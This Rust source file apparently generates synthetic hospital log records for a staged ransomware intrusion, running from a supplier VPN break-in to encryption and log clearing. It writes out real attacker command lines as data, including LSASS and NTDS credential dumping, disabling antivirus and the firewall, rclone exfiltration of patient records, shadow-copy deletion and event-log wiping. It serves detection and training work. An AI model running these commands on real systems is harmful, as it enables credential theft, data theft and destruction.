//! The steps of the attack, each a function of when and where.

use sakimori_words::Instant;

use crate::Line;
use crate::devices::{Hospital, Log};

/// Where the attacker comes from.
const OUTSIDE: &str = "203.0.113.77";
/// The address the VPN gives.
const TUNNEL: &str = "10.212.134.200";
/// The caterer's server inside the hospital.
const CATERING: &str = "10.30.1.5";
/// The caterer's maintenance account.
const SUPPLIER: &str = "kyushoku-maint";
/// Servers reached with the same password, with their addresses.
const SERVERS: [(&str, &str); 8] = [
    ("ehr01", "10.20.1.40"),
    ("ehr02", "10.20.1.41"),
    ("fs01", "10.20.1.20"),
    ("pacs01", "10.20.1.50"),
    ("lab01", "10.20.1.60"),
    ("rx01", "10.20.1.61"),
    ("backup01", "10.20.1.70"),
    ("dc01", "10.20.1.10"),
];

const MINUTE: i64 = 60;

/// All records of the attack. Not sorted.
pub(super) fn attack(start: Instant, hospital: &Hospital) -> Vec<Line> {
    let minute = |minutes: i64| start.plus_seconds(minutes * MINUTE);
    let mut story = Story { hospital, lines: Vec::new() };
    story.enters_through_the_supplier(minute(0));
    story.looks_around(minute(8));
    story.takes_passwords(minute(15));
    story.removes_the_antivirus("kyushoku01", minute(20));
    story.crosses_the_border(minute(30));
    story.uses_the_same_password_everywhere(minute(35));
    story.takes_the_domain(minute(50));
    story.opens_the_firewall(minute(60));
    story.carries_data_out(minute(70));
    story.destroys_the_way_back(minute(90));
    story.encrypts(minute(100));
    story.covers_tracks(minute(115));
    story.lines
}

struct Story<'h> {
    hospital: &'h Hospital,
    lines: Vec<Line>,
}

impl Story<'_> {
    fn enters_through_the_supplier(&mut self, at: Instant) {
        for n in 0..12 {
            self.vpn(
                at.plus_seconds(n * 5),
                "ssl-login-fail",
                "0101039426",
                "SSL VPN login fail",
                "alert",
            );
        }
        let at = at.plus_seconds(3 * MINUTE);
        self.vpn(at, "tunnel-up", "0101039424", "SSL VPN tunnel up", "information");
        self.traffic(at.plus_seconds(60), TUNNEL, CATERING, 3389, 2_000_000);
        self.logon(at.plus_seconds(65), "kyushoku01", "10", TUNNEL);
    }

    fn looks_around(&mut self, at: Instant) {
        let commands = [
            ("whoami.exe", "whoami /all"),
            ("nltest.exe", "nltest /dclist:hospital"),
            ("nltest.exe", "nltest /domain_trusts"),
            ("net.exe", "net group \"Domain Admins\" /domain"),
            ("net.exe", "net view /all"),
            ("ipconfig.exe", "ipconfig /all"),
            ("netscan.exe", "netscan.exe /hide /range:10.20.1.1-10.20.1.254"),
        ];
        for (n, (program, command)) in (0..).zip(commands) {
            self.program(at.plus_seconds(n * 20), "kyushoku01", program, command);
        }
        for host in 1..=30 {
            let at = at.plus_seconds(150 + i64::from(host));
            let to = format!("10.20.1.{host}");
            self.lines.push(self.hospital.traffic(at, TUNNEL, &to, 445, "deny", 0));
        }
    }

    fn takes_passwords(&mut self, at: Instant) {
        let command = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Windows\\Temp\\l.dmp full";
        self.program(at, "kyushoku01", "rundll32.exe", command);
        self.windows(
            at.plus_seconds(1),
            "kyushoku01",
            Log::Sysmon,
            10,
            &[
                ("SourceImage", "C:\\Windows\\System32\\rundll32.exe"),
                ("TargetImage", "C:\\Windows\\System32\\lsass.exe"),
                ("GrantedAccess", "0x1fffff"),
                ("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\dbgcore.DLL+6eb1"),
                ("SourceUser", "HOSPITAL\\administrator"),
            ],
        );
        self.program(
            at.plus_seconds(60),
            "kyushoku01",
            "reg.exe",
            "reg save HKLM\\SAM C:\\Windows\\Temp\\s.hiv",
        );
    }

    fn removes_the_antivirus(&mut self, machine: &str, at: Instant) {
        let off =
            "powershell.exe -nop -w hidden -c Set-MpPreference -DisableRealtimeMonitoring $true";
        self.program(at, machine, "powershell.exe", off);
        self.windows(
            at.plus_seconds(1),
            machine,
            Log::PowerShell,
            4104,
            &[
                ("ScriptBlockText", "Set-MpPreference -DisableRealtimeMonitoring $true"),
                ("Path", ""),
            ],
        );
        self.windows(
            at.plus_seconds(2),
            machine,
            Log::Defender,
            5001,
            &[("ProductName", "Microsoft Defender Antivirus"), ("ProductVersion", "4.18.2211.5")],
        );
        self.program(
            at.plus_seconds(20),
            machine,
            "msiexec.exe",
            "msiexec.exe /x {8456195C-3BA3-45A4-A6A7-30AE7A62EADB} /qn",
        );
        self.windows(
            at.plus_seconds(40),
            machine,
            Log::Installer,
            11_724,
            &[(
                "Data",
                "Product: Trend Micro Apex One Security Agent -- Removal completed successfully.",
            )],
        );
        self.windows(
            at.plus_seconds(45),
            machine,
            Log::Services,
            7040,
            &[
                ("param1", "Microsoft Defender Antivirus Service"),
                ("param2", "auto start"),
                ("param3", "disabled"),
                ("param4", "WinDefend"),
            ],
        );
    }

    fn crosses_the_border(&mut self, at: Instant) {
        for (n, (_, address)) in (0..).zip(SERVERS) {
            self.traffic(at.plus_seconds(n * 10), CATERING, address, 3389, 40_000);
            self.traffic(at.plus_seconds(n * 10 + 5), CATERING, address, 445, 90_000);
        }
    }

    fn uses_the_same_password_everywhere(&mut self, at: Instant) {
        for (n, (machine, _)) in (0..).zip(SERVERS) {
            let at = at.plus_seconds(n * 40);
            for miss in 0..4 {
                self.failed_logon(at.plus_seconds(miss), machine);
            }
            self.logon(at.plus_seconds(10), machine, "3", CATERING);
            self.share_write(at.plus_seconds(12), machine, "ADMIN$", "PSEXESVC.exe");
            self.windows(
                at.plus_seconds(15),
                machine,
                Log::Services,
                7045,
                &[
                    ("ServiceName", "PSEXESVC"),
                    ("ImagePath", "%SystemRoot%\\PSEXESVC.exe"),
                    ("ServiceType", "user mode service"),
                    ("StartType", "demand start"),
                    ("AccountName", "LocalSystem"),
                ],
            );
        }
        for (n, (machine, _)) in (0..).zip(SERVERS) {
            self.logon(at.plus_seconds(6 * MINUTE + n * 60), machine, "10", CATERING);
        }
        self.removes_the_antivirus("fs01", at.plus_seconds(8 * MINUTE));
    }

    fn takes_the_domain(&mut self, at: Instant) {
        self.logon(at, "dc01", "10", CATERING);
        let dump = "ntdsutil.exe \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\n\" q q";
        self.program(at.plus_seconds(30), "dc01", "ntdsutil.exe", dump);
        self.windows(
            at.plus_seconds(90),
            "dc01",
            Log::Security,
            4720,
            &[
                ("TargetUserName", "support2"),
                ("TargetDomainName", "HOSPITAL"),
                ("SubjectUserName", "administrator"),
                ("SamAccountName", "support2"),
            ],
        );
        self.windows(
            at.plus_seconds(95),
            "dc01",
            Log::Security,
            4728,
            &[
                ("MemberName", "CN=support2,CN=Users,DC=hospital,DC=example"),
                ("TargetUserName", "Domain Admins"),
                ("TargetDomainName", "HOSPITAL"),
                ("TargetSid", "S-1-5-21-1111111111-2222222222-3333333333-512"),
                ("SubjectUserName", "administrator"),
            ],
        );
        self.windows(at.plus_seconds(120), "dc01", Log::Security, 5136, &[
            ("SubjectUserName", "administrator"),
            ("ObjectDN", "CN={6AC1786C-016F-11D2-945F-00C04FB984F9},CN=Policies,CN=System,DC=hospital,DC=example"),
            ("ObjectClass", "groupPolicyContainer"),
            ("AttributeLDAPDisplayName", "gPCMachineExtensionNames"),
            ("AttributeValue", "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}][{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"),
            ("OperationType", "%%14674"),
        ]);
        for (n, (machine, _)) in (0..).zip(SERVERS) {
            self.windows(
                at.plus_seconds(180 + n * 5),
                machine,
                Log::Security,
                4698,
                &[
                    ("SubjectUserName", "administrator"),
                    ("TaskName", "\\Update_run"),
                    ("TaskContent", "<Exec><Command>C:\\Windows\\Temp\\run.exe</Command></Exec>"),
                ],
            );
        }
    }

    fn opens_the_firewall(&mut self, at: Instant) {
        self.program(at, "fs01", "netsh.exe", "netsh advfirewall set allprofiles state off");
        self.windows(
            at.plus_seconds(10),
            "fs01",
            Log::Sysmon,
            13,
            &[
                ("EventType", "SetValue"),
                ("Image", "C:\\Windows\\System32\\reg.exe"),
                (
                    "TargetObject",
                    "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections",
                ),
                ("Details", "DWORD (0x00000000)"),
                ("User", "HOSPITAL\\administrator"),
            ],
        );
        self.lines.push(self.hospital.fortigate(
            at.plus_seconds(60),
            &[
                ("logid", "0100032001"),
                ("type", "event"),
                ("subtype", "system"),
                ("level", "information"),
                ("vd", "root"),
                ("logdesc", "Admin login successful"),
                ("user", "admin"),
                ("ui", &format!("https({OUTSIDE})")),
                ("method", "https"),
                ("srcip", OUTSIDE),
                ("action", "login"),
                ("status", "success"),
                (
                    "msg",
                    &format!("Administrator admin logged in successfully from https({OUTSIDE})"),
                ),
            ],
        ));
        for (n, path, object) in [(90, "system.admin", "support2"), (100, "firewall.policy", "77")]
        {
            self.lines.push(self.hospital.fortigate(
                at.plus_seconds(n),
                &[
                    ("logid", "0100044547"),
                    ("type", "event"),
                    ("subtype", "system"),
                    ("level", "information"),
                    ("vd", "root"),
                    ("logdesc", "Object attribute configured"),
                    ("user", "admin"),
                    ("ui", &format!("GUI({OUTSIDE})")),
                    ("action", "Add"),
                    ("cfgpath", path),
                    ("cfgobj", object),
                    ("msg", &format!("Add {path} {object}")),
                ],
            ));
        }
    }

    fn carries_data_out(&mut self, at: Instant) {
        let command = "rclone.exe copy \\\\fs01\\karte$ remote:k --transfers 16 --config C:\\Windows\\Temp\\r.conf";
        self.program(at, "fs01", "rclone.exe", command);
        for n in 0..6 {
            self.traffic(
                at.plus_seconds(n * 120),
                "10.20.1.20",
                "198.51.100.250",
                443,
                3_000_000_000,
            );
        }
    }

    fn destroys_the_way_back(&mut self, at: Instant) {
        for (n, machine) in (0..).zip(["fs01", "ehr01", "backup01", "dc01"]) {
            let at = at.plus_seconds(n * 60);
            let commands = [
                ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
                ("wmic.exe", "wmic.exe shadowcopy delete /nointeractive"),
                ("wbadmin.exe", "wbadmin.exe delete catalog -quiet"),
                ("bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled no"),
                ("bcdedit.exe", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"),
                ("net.exe", "net.exe stop \"MSSQLSERVER\" /y"),
                ("net.exe", "net.exe stop \"VeeamBackupSvc\" /y"),
                ("taskkill.exe", "taskkill.exe /IM sqlservr.exe /F"),
            ];
            for (m, (program, command)) in (0..).zip(commands) {
                self.program(at.plus_seconds(m * 3), machine, program, command);
            }
        }
    }

    fn encrypts(&mut self, at: Instant) {
        self.program(at, "fs01", "run.exe", "C:\\Windows\\Temp\\run.exe -p \\\\fs01\\karte$");
        for n in 0..240 {
            let at = at.plus_seconds(n / 2);
            let folder = format!("D:\\karte\\2026\\{:02}", n % 24);
            let file = format!("{folder}\\scan{n:04}.pdf.locked");
            self.file_event(at, 11, &file);
            self.object_access(at, &file);
            self.share_write(
                at,
                "fs01",
                "karte$",
                &format!("2026\\{:02}\\scan{n:04}.pdf.locked", n % 24),
            );
            if n % 6 == 0 {
                let session = n.to_string();
                let pairs = [("RmSessionId", session.as_str())];
                self.windows(at, "fs01", Log::RestartManager, 10_000, &pairs);
            }
            if n % 10 == 0 {
                self.file_event(at, 11, &format!("{folder}\\HOW_TO_RESTORE_FILES.txt"));
            }
        }
    }

    fn covers_tracks(&mut self, at: Instant) {
        for (n, machine) in (0..).zip(["fs01", "ehr01", "dc01"]) {
            let at = at.plus_seconds(n * 30);
            self.program(at, machine, "wevtutil.exe", "wevtutil.exe cl Security");
            self.windows(
                at.plus_seconds(1),
                machine,
                Log::Security,
                1102,
                &[("SubjectUserName", "administrator"), ("SubjectDomainName", "HOSPITAL")],
            );
            self.windows(
                at.plus_seconds(2),
                machine,
                Log::System,
                104,
                &[("SubjectUserName", "administrator"), ("Channel_Cleared", "System")],
            );
        }
    }

    fn vpn(&mut self, at: Instant, action: &str, id: &str, description: &str, level: &str) {
        self.lines.push(self.hospital.fortigate(
            at,
            &[
                ("logid", id),
                ("type", "event"),
                ("subtype", "vpn"),
                ("level", level),
                ("vd", "root"),
                ("logdesc", description),
                ("action", action),
                ("tunneltype", "ssl-tunnel"),
                ("remip", OUTSIDE),
                ("user", SUPPLIER),
                ("group", "vendor-vpn"),
                ("dst_host", "N/A"),
                ("msg", description),
            ],
        ));
    }

    fn traffic(&mut self, at: Instant, from: &str, to: &str, port: u16, sent: u64) {
        self.lines.push(self.hospital.traffic(at, from, to, port, "accept", sent));
    }

    fn windows(
        &mut self,
        at: Instant,
        machine: &str,
        log: Log,
        event_id: u32,
        pairs: &[(&str, &str)],
    ) {
        self.lines.push(self.hospital.windows(at, machine, log, event_id, pairs));
    }

    fn logon(&mut self, at: Instant, machine: &str, logon_type: &str, from: &str) {
        self.windows(
            at,
            machine,
            Log::Security,
            4624,
            &[
                ("SubjectUserName", "-"),
                ("TargetUserName", "administrator"),
                ("TargetDomainName", "HOSPITAL"),
                ("LogonType", logon_type),
                ("AuthenticationPackageName", "NTLM"),
                ("LogonProcessName", "NtLmSsp"),
                ("WorkstationName", "KYUSHOKU01"),
                ("IpAddress", from),
            ],
        );
        self.windows(
            at,
            machine,
            Log::Security,
            4672,
            &[
                ("SubjectUserName", "administrator"),
                ("SubjectDomainName", "HOSPITAL"),
                ("PrivilegeList", "SeDebugPrivilege SeBackupPrivilege"),
            ],
        );
    }

    fn failed_logon(&mut self, at: Instant, machine: &str) {
        self.windows(
            at,
            machine,
            Log::Security,
            4625,
            &[
                ("TargetUserName", "administrator"),
                ("TargetDomainName", "HOSPITAL"),
                ("LogonType", "3"),
                ("AuthenticationPackageName", "NTLM"),
                ("WorkstationName", "KYUSHOKU01"),
                ("IpAddress", CATERING),
                ("Status", "0xc000006d"),
                ("SubStatus", "0xc000006a"),
            ],
        );
    }

    /// A program started by the attacker, as Sysmon and the Security log tell it.
    fn program(&mut self, at: Instant, machine: &str, program: &str, command: &str) {
        let folder = match program {
            "run.exe" | "rclone.exe" | "netscan.exe" => "C:\\Windows\\Temp",
            "powershell.exe" => "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
            "wmic.exe" => "C:\\Windows\\System32\\wbem",
            _ => "C:\\Windows\\System32",
        };
        let image = format!("{folder}\\{program}");
        self.windows(
            at,
            machine,
            Log::Sysmon,
            1,
            &[
                ("Image", &image),
                ("OriginalFileName", program),
                ("CommandLine", command),
                ("CurrentDirectory", "C:\\Windows\\Temp\\"),
                ("User", "HOSPITAL\\administrator"),
                ("IntegrityLevel", "High"),
                ("ParentImage", "C:\\Windows\\System32\\cmd.exe"),
                ("ParentCommandLine", "cmd.exe"),
            ],
        );
        self.windows(
            at,
            machine,
            Log::Security,
            4688,
            &[
                ("SubjectUserName", "administrator"),
                ("SubjectDomainName", "HOSPITAL"),
                ("NewProcessName", &image),
                ("CommandLine", command),
                ("ParentProcessName", "C:\\Windows\\System32\\cmd.exe"),
            ],
        );
    }

    fn file_event(&mut self, at: Instant, event_id: u32, file: &str) {
        self.windows(
            at,
            "fs01",
            Log::Sysmon,
            event_id,
            &[
                ("Image", "C:\\Windows\\Temp\\run.exe"),
                ("TargetFilename", file),
                ("User", "HOSPITAL\\administrator"),
            ],
        );
    }

    fn object_access(&mut self, at: Instant, file: &str) {
        self.windows(
            at,
            "fs01",
            Log::Security,
            4663,
            &[
                ("SubjectUserName", "administrator"),
                ("SubjectDomainName", "HOSPITAL"),
                ("ObjectServer", "Security"),
                ("ObjectType", "File"),
                ("ObjectName", file),
                ("AccessMask", "0x10000"),
                ("AccessList", "%%1537"),
                ("ProcessName", "C:\\Windows\\Temp\\run.exe"),
            ],
        );
    }

    fn share_write(&mut self, at: Instant, machine: &str, share: &str, file: &str) {
        self.windows(
            at,
            machine,
            Log::Security,
            5145,
            &[
                ("SubjectUserName", "administrator"),
                ("SubjectDomainName", "HOSPITAL"),
                ("ObjectType", "File"),
                ("IpAddress", CATERING),
                ("ShareName", &format!("\\\\*\\{share}")),
                ("RelativeTargetName", file),
                ("AccessMask", "0x2"),
                ("AccessList", "%%4417"),
            ],
        );
    }
}
